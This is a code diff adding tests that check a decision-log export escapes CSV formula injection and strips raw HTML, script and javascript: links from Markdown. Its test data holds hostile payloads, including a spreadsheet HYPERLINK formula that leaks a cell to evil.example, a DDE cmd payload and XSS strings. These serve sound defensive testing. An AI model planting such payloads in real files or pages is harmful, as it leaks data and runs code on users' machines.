@@ -127,3 +127,40 @@ ronde: consent 6, concern 0, objection 1 (7)
     })
   })
 })
+
+describe('decision log exports are inert', () => {
+  const hostile: DecisionRecord = {
+    ...adopted,
+    id: 'd2',
+    title: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
+    context:
+      '<img src=x onerror=alert(1)> [clic](javascript:alert(1)) ![](https://evil.example/pixel.png)',
+    options: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
+    decision: '<script>alert(1)</script>',
+    rationale: 'Voir https://exemple.org/plan et <a href="javascript:alert(1)">ici</a>',
+    dissent: [],
+  }
+  const log: DecisionLogSource = { ...source, decisions: [hostile] }
+
+  it('CSV: no cell starts with =, +, -, @, tab or CR (OWASP CSV injection)', () => {
+    for (const text of [hostile.title, ...hostile.options]) {
+      const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: [text] }] })
+      // The cell (quoted or not) starts with a quote mark, never with the text itself.
+      expect(csv, JSON.stringify(text)).toContain(`'${text.replace(/"/g, '""')}`)
+      expect(csv, JSON.stringify(text)).not.toContain(`,${text}`)
+      expect(csv, JSON.stringify(text)).not.toContain(`,"${text.replace(/"/g, '""')}`)
+    }
+    // A carriage return inside a cell is quoted: it never starts a row of its own.
+    const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: ['\r=1+1'] }] })
+    expect(csv).toContain(`"'\r=1+1"`)
+  })
+
+  it('Markdown: no raw HTML, no link but http(s) and mailto, no remote image', () => {
+    const md = decisionsToMarkdown(log)
+    expect(md).not.toMatch(/<img|<script|<a /i)
+    expect(md).not.toMatch(/\]\(javascript:/i)
+    expect(md).not.toContain('![')
+    // Plain addresses stay as they are, for a reader to follow.
+    expect(md).toContain('https://exemple.org/plan')
+  })
+})
